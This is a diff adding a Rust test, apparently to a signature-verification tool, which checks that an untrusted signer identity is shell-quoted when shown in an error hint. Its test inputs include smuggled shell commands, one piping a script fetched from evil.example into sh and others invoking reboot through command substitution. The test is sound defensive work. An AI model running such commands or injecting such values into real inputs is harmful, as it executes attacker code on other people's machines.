@@ -146,3 +146,19 @@ fn a_signer_counts_only_under_the_root_that_it_names() {
         assert_eq!(authorities.each_ref().map(|authority| verified.is_by(authority)), expected);
     }
 }
+
+/// People copy the lines that would trust a stranger, and the stranger chose what stands in them.
+#[test]
+fn what_a_stranger_is_called_is_nothing_that_a_shell_runs() {
+    for (part, quoted) in [
+        ("main", "%"),
+        ("x;curl${IFS}evil.example|sh", "'%'"),
+        ("$(reboot)`reboot`", "'%'"),
+        ("it's", r"'https://github.com/evil/x/.github/workflows/r.yml@refs/heads/it'\''s'"),
+    ] {
+        let subject = format!("https://github.com/evil/x/.github/workflows/r.yml@refs/heads/{part}");
+        let refused = Judge::new().bundle(&sigstore().sign().identity(&subject).image(IMAGE).bundle()).unwrap_err();
+        let expected = format!(" COSIGN_CERTIFICATE_IDENTITY={} COSIGN", quoted.replace('%', &subject));
+        assert!(refused.the_hint().contains(&expected), "{expected}: {}", refused.the_hint());
+    }
+}
